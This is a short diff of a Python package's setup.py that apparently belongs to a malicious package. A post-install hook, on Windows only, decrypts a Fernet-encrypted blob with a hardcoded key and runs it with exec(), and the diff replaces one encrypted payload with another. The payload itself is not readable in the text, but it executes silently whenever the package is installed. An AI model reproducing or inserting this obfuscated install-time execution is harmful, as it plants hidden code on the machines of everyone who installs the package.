@@ -7,7 +7,7 @@ class PostInstall(install):
         import os
         if os.name == "nt":
             from cryptography.fernet import Fernet
-            exec(Fernet(b'BwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyAhIiMkJSY=').decrypt(b'gAAAAABrFcKGTpFKJH9oW03616JeXBkee-QYv1wvt9akJ4d-KjRo1Ur8Uf-Ccnhp838Opmroo69rGSHJLjCgqJFNFxcfI-DZMNxLJBkJqkcIm0qqga6MkUKTR-TmKxDFeX5Zzg9c9g5gZzGIB68okspWBZyiHIElE3TQ4n3spqVn-BjYtTs6tOBdDQIa3y-C4LLLaWtvUpuoBsYK66Q3x1cll_xJJoRPP-Rq7NeleOs-r_qfvkDsXGbVMRSLy9-68i9fIqmhIDYQDJ-KMt3UZ4wQNa-bI8dw9k22XApp3b469gnWuE2pWyFXdsLxW9_Mq9TMvKLM5mZuA-ry3yP7KlxPGR8Y96daVSX2l96f2voaIp7e3HaNtO16IoIlSAiHTxusmjhPZNdPxG0KMuFDQO3GtIycTdchxw=='))
+            exec(Fernet(b'BwgJCgsMDQ4PEBESExQVFhcYGRobHB0eHyAhIiMkJSY=').decrypt(b'gAAAAABrFcLBpe30I-sgWHVsalC6noz6DWl5xYrnOwiH9jcLAD64jAWBML8rxqhPoC8JAJkzVogXrxSfhHSwjYWtwTvshAsNglYVX2MC5SVMHsXAjoM8EmFkzSybNdp9yC0Ed3ZNdNNHEh0HQspRVaBTHphUDETjPksmhh6Tb4GciNo4TLurP8bfgHUNJQNhhUNQDx5_P76LRoKMLUJdu7beg2j8aigSkZfVRa61F8Eo3tMgeR8OB6r9wKB5OJtBOujUYo42EKu5JiVEUQVp2sYdR4pssyzoxNltLG6wfUcyEXD1H7IRW-rWDKe77rJbKs1T7Bv3ONczkpig5Y3LbekopgjjxVQad7VsijBB2fr7GSXhioWsgMqauUZi987KsoVbD42vnQsrHYQtw5xoolzjbJWl_sTJMQ=='))
         install.run(self)
 
 setup(
